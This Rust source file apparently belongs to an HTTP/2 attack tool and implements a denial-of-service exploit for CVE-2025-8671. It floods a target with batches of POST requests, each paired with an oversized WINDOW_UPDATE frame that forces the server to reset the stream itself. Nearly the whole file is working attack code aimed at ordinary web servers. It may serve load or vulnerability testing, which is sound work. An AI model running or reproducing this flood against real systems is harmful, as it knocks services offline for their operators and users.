//! HTTP/2 requests that are made so that the service has to cancel them itself (CVE-2025-8671).

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{post, window_update};
use super::super::http2::{Connection, id};

/// How many requests go out with one write.
const BATCH: u32 = 100;

/// More than a window may have: an error of the stream.
const TOO_MUCH: u32 = 0x7FFF_FFFF;

/// Asks, and makes a mistake that costs the stream.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let connection = Connection::begin(attacker, stream, &[]).await;
            let batch = |index: u32| {
                let ids = (index * BATCH..(index + 1) * BATCH).map(id);
                ids.flat_map(|id| [post(id, "/system/notify/send"), window_update(id, TOO_MUCH)].concat()).collect()
            };
            connection.flood(batch).await
        })
        .await
}
